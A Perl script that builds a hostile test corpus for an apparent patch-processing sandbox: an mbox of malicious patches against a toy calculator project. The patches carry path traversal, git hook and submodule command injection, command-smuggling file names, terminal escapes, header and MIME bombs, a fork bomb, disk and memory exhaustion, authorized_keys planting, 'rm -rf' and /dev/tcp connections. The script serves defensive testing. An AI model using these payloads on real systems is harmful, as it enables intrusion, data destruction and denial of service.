#!/usr/bin/perl
# Makes the hostile sample list, with the small project its patches are against.
#
#   generate.pl FOLDER [CANARY [PORT]]
#
# FOLDER gets tree.git (the project), hostile.mbox (the mails) and patchmill.yaml, a copy of the one
# beside this file that names them. CANARY is a folder the patches try to read and to damage, PORT a
# port of this machine they try to reach.
# Bombs are made here and stored nowhere. Everything is the same on every run.
use strict;
use warnings;
use Compress::Zlib qw(compress);
use Cwd qw(abs_path);
use File::Basename qw(dirname);
use MIME::Base64 qw(encode_base64);

@ARGV >= 1 or die "usage: $0 FOLDER [CANARY [PORT]]\n";
my $folder = $ARGV[0];
mkdir $folder;
$folder = abs_path($folder) // die "$0: $ARGV[0]: $!\n";
my $canary = $ARGV[1] // "$folder/canary";
my $port = $ARGV[2] // 9;
# How long a process sleeps tells whose it is.
my $nap = 98765000000 + $port * 10;
my $here = abs_path(dirname($0));

# --- the project -------------------------------------------------------------------------------

my %project = (
    'Makefile' => <<'MK',
# Builds into the folder $(B); extra.mk may add to it.
B ?= build

all: $(B)/calc extra
	$(B)/calc 2 3

$(B)/calc: src/calc.c src/calc.h
	mkdir -p $(B)
	$(CC) -Wall -o $@ src/calc.c

-include extra.mk

extra:

.PHONY: all extra
MK
    'src/calc.h' => "#pragma once\nint add(int a, int b);\n",
    'src/calc.c' => <<'C',
#include "calc.h"

#include <stdio.h>
#include <stdlib.h>

int add(int a, int b)
{
	return a + b;
}

int main(int argc, char **argv)
{
	int a = argc > 1 ? atoi(argv[1]) : 0;
	int b = argc > 2 ? atoi(argv[2]) : 0;

	printf("%d\n", add(a, b));
	return 0;
}
C
    'README' => "calc: adds two numbers.\n",
);

sub git {
    my ($input, @args) = @_;
    local %ENV = (%ENV, GIT_CONFIG_NOSYSTEM => 1, GIT_CONFIG_GLOBAL => '/dev/null');
    open my $pipe, '|-', 'git', @args or die "$0: git: $!\n";
    print $pipe $input;
    close $pipe or die "$0: git @args failed\n";
}

sub data { my ($text) = @_; return 'data ' . length($text) . "\n$text\n" }

my $stream = "commit refs/heads/main\ncommitter Ann Well <ann\@example.org> 1767225600 +0000\n"
    . data("Begin calc\n\nSigned-off-by: Ann Well <ann\@example.org>\n");
$stream .= "M 100644 inline $_\n" . data($project{$_}) for sort keys %project;
system('rm', '-rf', "$folder/tree.git") == 0 or die;
git('', 'init', '-q', '--bare', '-b', 'main', "$folder/tree.git");
git($stream, '-C', "$folder/tree.git", 'fast-import', '--quiet');

# --- diffs -------------------------------------------------------------------------------------

sub new_file {
    my ($path, $content, $mode) = @_;
    $mode //= '100644';
    my @lines = split /^/, $content;
    my $count = @lines;
    my $last = $content =~ /\n\z/ ? '' : "\n\\ No newline at end of file\n";
    my ($a, $b) = ("a/$path", "b/$path");
    ($a, $b) = map { qq("$_") } $a, $b if $path =~ /["\\]/;
    return "diff --git $a $b\nnew file mode $mode\n--- /dev/null\n+++ $b\n\@\@ -0,0 +1"
        . ($count == 1 ? '' : ",$count") . " \@\@\n" . join('', map { "+$_" } @lines) . $last;
}

my $good = <<'DIFF';
diff --git a/src/calc.c b/src/calc.c
--- a/src/calc.c
+++ b/src/calc.c
@@ -5,7 +5,7 @@
 
 int add(int a, int b)
 {
-	return a + b;
+	return b + a;
 }
 
 int main(int argc, char **argv)
DIFF

# What a patch runs when it is built: one shell line a recipe line.
sub build_runs {
    my @lines = @_;
    return new_file('extra.mk', "extra:\n" . join('', map { "\t$_\n" } @lines));
}

sub binary_literal {
    my ($path, $size) = @_;
    my $packed = compress("\0" x $size, 9);
    my @digit = (0 .. 9, 'A' .. 'Z', 'a' .. 'z', split //, '!#$%&()*+-;<=>?@^_`{|}~');
    my $text = '';
    for (my $at = 0; $at < length $packed; $at += 52) {
        my $chunk = substr $packed, $at, 52;
        my $length = length $chunk;
        $text .= $length <= 26 ? chr(ord('A') + $length - 1) : chr(ord('a') + $length - 27);
        $chunk .= "\0" x (-$length % 4);
        for my $word (unpack 'N*', $chunk) {
            my $five = '';
            for (1 .. 5) { $five = $digit[$word % 85] . $five; $word = int($word / 85) }
            $text .= $five;
        }
        $text .= "\n";
    }
    return "diff --git a/$path b/$path\nnew file mode 100644\nindex 0000000000000000000000000000000000000000..1111111111111111111111111111111111111111\n"
        . "GIT binary patch\nliteral $size\n$text\nliteral 0\nHcmV?d00001\n\n";
}

# --- mails -------------------------------------------------------------------------------------

open my $mbox, '>:raw', "$folder/hostile.mbox" or die "$0: $folder/hostile.mbox: $!\n";
my $clock = 0;

sub put {
    my ($mail) = @_;
    $mail =~ s/^(>*From )/>$1/gm;
    $mail .= "\n" unless $mail =~ /\n\z/;
    print $mbox "From mboxrd\@z Thu Jan  1 00:00:00 1970\n$mail\n";
}

# head(ID, SUBJECT, more header lines): what every mail begins with.
sub head {
    my ($id, $subject, $more) = @_;
    ++$clock;
    return sprintf "From: Eve Dropper <eve\@example.org>\nTo: hostile\@example.org\nSubject: %s\n"
        . "Date: Thu, 1 Jan 2026 12:%02d:%02d +0000\nMessage-ID: <%s>\nList-Id: <hostile.example.org>\n%s",
        $subject, int($clock / 60), $clock % 60, $id, $more // '';
}

sub patch {
    my ($name, $title, $diff, %option) = @_;
    my $prefix = $option{prefix} // 'PATCH';
    my $id = $option{id} // "$name\@hostile.example.org";
    my $subject = $option{subject} // "[$prefix] calc: $title";
    my $extra = $option{trailer} // '';
    put(head($id, $subject, $option{headers})
            . "\nThis is what it does: $title.\n\nSigned-off-by: Eve Dropper <eve\@example.org>\n---\n"
            . ($option{stat} // '') . "\n$diff\n$extra-- \n2.39.5\n");
}

patch('good', 'add the other way round', $good);

# Paths that leave the tree, or mean git's own files.
patch('traversal', 'leave by dots', new_file('../../../../../../../../tmp/patchmill-hostile', "x\n"));
patch('traversal-middle', 'leave by dots in the middle', new_file('src/../../patchmill-hostile', "x\n"));
patch('absolute', 'leave by the root', "diff --git a/etc/x b/etc/x\nnew file mode 100644\n--- /dev/null\n+++ /etc/patchmill-hostile\n\@\@ -0,0 +1 \@\@\n+x\n");
patch('git-folder', 'write a hook', new_file('.git/hooks/post-checkout', "#!/bin/sh\ntouch $canary/hook\n", '100755'));
patch('git-folder-case', 'write a hook in capitals', new_file('src/.GIT/hooks/post-checkout', "x\n", '100755'));
patch('git-folder-short', 'write a hook by a short name', new_file('GIT~1/config', "x\n"));
patch('git-folder-ignored', 'write a hook with a letter nobody sees', new_file(".g\xe2\x80\x8cit/config", "x\n"));
patch('rename', 'take a file from outside', "diff --git a/../../etc/passwd b/passwd\nsimilarity index 100%\nrename from ../../etc/passwd\nrename to passwd\n");
patch('link-1', 'make a way out', new_file('out', $canary, '120000'), prefix => 'PATCH 1/2', id => 'link.1@hostile.example.org');
patch('link-2', 'go out', new_file('out/written', "x\n"), prefix => 'PATCH 2/2', id => 'link.2@hostile.example.org',
    headers => "In-Reply-To: <link.1\@hostile.example.org>\n");
patch('link-source', 'read by a link', new_file('README.link', "$canary/secret", '120000')
        . build_runs('-cat README.link', '-echo damaged > README.link'));
patch('submodule', 'bring a submodule', "diff --git a/sub b/sub\nnew file mode 160000\nindex 0000000..1111111\n--- /dev/null\n+++ b/sub\n\@\@ -0,0 +1 \@\@\n+Subproject commit 1111111111111111111111111111111111111111\n");
patch('gitmodules', 'bring a submodule with a url', new_file('.gitmodules', qq([submodule "x"]\n\tpath = x\n\turl = "ext::sh -c touch% $canary/submodule"\n\tupdate = !touch $canary/submodule\n)));
patch('attributes', 'bring a filter', new_file('.gitattributes', "*.c filter=evil diff=evil merge=evil\n"));

# Names that are options, commands or more than one line.
patch('name-option', 'be an option', new_file('--output=pwned', "x\n") . new_file('-rf', "x\n"));
patch('name-command', 'be a command', new_file('$(touch pwned);`touch pwned`', "x\n"));
patch('name-newline', 'be two lines', new_file('two\\nlines', "x\n"));
patch('base-option', 'be an option of git', $good, trailer => "base-commit: --upload-pack=touch\n");
patch('base-path', 'be a path', $good, trailer => "base-commit: ../../../../etc/passwd\n");
patch('message-id', 'have a path for a name', $good, id => '../../../../../../tmp/patchmill-hostile@hostile.example.org');

# What a terminal would obey.
patch('terminal', '', $good, subject => "[PATCH] calc: \e[2J\e]0;owned\a\e[31mred\e[0m");
patch('terminal-encoded', '', $good, subject => '[PATCH] calc: =?utf-8?B?' . encode_base64("\e[2J\e]0;owned\a \xe2\x80\xae txt.exe", '') . '?=');
patch('terminal-log', 'print what a terminal obeys', build_runs('printf "\\033[2J\\033]0;owned\\007"'));

# Too much of everything.
patch('header', 'have a header of a megabyte', $good, headers => 'X-Bloat: ' . ('a' x 1048576) . "\n");
patch('header-many', 'have many headers', $good, headers => join('', map { "X-Line-$_: b\n" } 1 .. 20000));
patch('references', 'refer to very many', $good,
    headers => 'References: ' . join("\n ", map { "<$_\@nowhere.example.org>" } 1 .. 10000) . "\n");
patch('references-self', 'refer to itself', $good,
    headers => "In-Reply-To: <references-self\@hostile.example.org>\nReferences: <references-self\@hostile.example.org>\n");
patch('depends-self', 'depend on itself', $good, trailer => "Depends-on: <depends-self\@hostile.example.org>\n");
put(head('subject@hostile.example.org', '[PATCH] calc: ' . ('long ' x 200000)) . "\nx\n\nSigned-off-by: Eve Dropper <eve\@example.org>\n---\n$good");
put(head('brackets@hostile.example.org', ('[' x 100000) . 'PATCH' . (']' x 100000) . ' calc: brackets') . "\nx\n---\n$good");
patch('numbers', 'count too far', $good, prefix => 'PATCH v99999999999999999999 1/99999999999999999999');
patch('numbers-many', 'announce very many', $good, prefix => 'PATCH 1/999999999');
{
    my $depth = 3000;
    my $mail = head('multipart@hostile.example.org', '[PATCH] calc: multiparts within multiparts', "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b0\n") . "\n";
    $mail .= "--b$_\nContent-Type: multipart/mixed; boundary=b" . ($_ + 1) . "\n\n" for 0 .. $depth;
    put("$mail$good");
}
put(head('parts@hostile.example.org', '[PATCH] calc: very many parts', "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n")
        . "\n" . ("--b\nContent-Type: text/plain\n\nx\n" x 50000) . "--b--\n");
put(head('base64@hostile.example.org', '[PATCH] calc: a long line of base64', "MIME-Version: 1.0\nContent-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: base64\n")
        . "\n" . encode_base64("\0" x 12582912, '') . "\n");
put(head('nul@hostile.example.org', '[PATCH] calc: NULs', "MIME-Version: 1.0\nContent-Type: text/plain; charset=utf-16\n")
        . "\nx\0y\n\nSigned-off-by: Eve Dropper <eve\@example.org>\n---\n" . ($good =~ s/b \+ a/b \0+ a/r));
patch('nul-name', 'have a NUL in a name', new_file("src/a\0b", "x\n"));
patch('binary', 'be small and become large', binary_literal('zeros', 67108864));
patch('binary-lie', 'lie about its size', binary_literal('zeros', 1024) =~ s/literal 1024/literal 18446744073709551615/r);
patch('hunk-lie', 'lie about its lines', "diff --git a/README b/README\n--- a/README\n+++ b/README\n\@\@ -1,4294967295 +1,18446744073709551615 \@\@\n-calc: adds two numbers.\n+calc\n");
patch('lines', 'have very many lines', new_file('table', join('', map { "$_\n" } 1 .. 100000)));

# What runs when it is built. The numbers after sleep tell whose process it is.
patch('outside', 'write where it must not', build_runs(
    "-echo damaged > $canary/secret", "-rm -rf $canary", "-cat $canary/secret",
    '-touch /etc/patchmill-hostile /usr/patchmill-hostile /var/patchmill-hostile /src/patchmill-hostile',
    '-mkdir -p ~/.ssh && echo key > ~/.ssh/authorized_keys', '-echo x > /proc/sys/kernel/core_pattern',
    '-unshare -Urm true', '-mount -t tmpfs none /mnt', '-chown 0:0 $(B)', '-mknod $(B)/disk b 8 0', '-kill -9 -1'));
patch('network', 'call home', build_runs(
    "bash -c 'exec 3<>/dev/tcp/127.0.0.1/$port' && echo REACHED || true",
    q(bash -c 'exec 3<>/dev/tcp/192.0.2.1/80' && echo REACHED || true)));
patch('forks', 'fork without end', build_runs("bash -c 'f() { f | f & }; f; sleep " . ($nap + 1) . "'"));
patch('never-ends', 'never end', build_runs("bash -c 'trap : TERM INT HUP; while :; do sleep " . ($nap + 2) . "; done'"));
patch('daemon', 'leave something behind', build_runs('setsid setsid nohup sleep ' . ($nap + 3) . ' > /dev/null 2>&1 &', 'true'));
patch('disk', 'fill the disk', build_runs('mkdir -p $(B); i=0; while :; do i=$$((i+1)); dd if=/dev/zero of=$(B)/fill.$$i bs=1M count=16 status=none || exit 1; done'));
patch('disk-one', 'fill the disk with one file', build_runs('mkdir -p $(B); exec cat /dev/zero > $(B)/fill'));
patch('shell-boom', 'make shellcheck eat all memory', new_file('boom.sh', "#!/bin/sh\n" . ('$(' x 4000) . 'echo' . (')' x 4000) . "\n"));
patch('disk-tmp', 'fill the memory by way of a file', build_runs('exec cat /dev/zero > /tmp/fill'));
patch('memory', 'fill the memory', build_runs('exec tail /dev/zero'));
patch('output', 'print without end', build_runs('exec yes "all work and no play"'));
patch('output-line', 'print a line without end', build_runs('exec cat /dev/zero'));
patch('results', 'leave a link as a result', build_runs("ln -s $canary/secret \$\$RESULTS_DIR/leak.txt", 'mkfifo $$RESULTS_DIR/pipe.txt'));
patch('description', 'write a long description', build_runs(q(sh -c 'yes "$$(printf "\033[31mred")" | head -c 10000000 >&"$$DESC_FD"' || true)));
close $mbox or die "$0: $folder/hostile.mbox: $!\n";

open my $in, '<', "$here/patchmill.yaml" or die "$0: $here/patchmill.yaml: $!\n";
open my $out, '>', "$folder/patchmill.yaml" or die "$0: $folder/patchmill.yaml: $!\n";
print $out $_ while <$in>;
close $out or die;
system('cp', "$here/build.sh", "$folder/build.sh") == 0 or die;
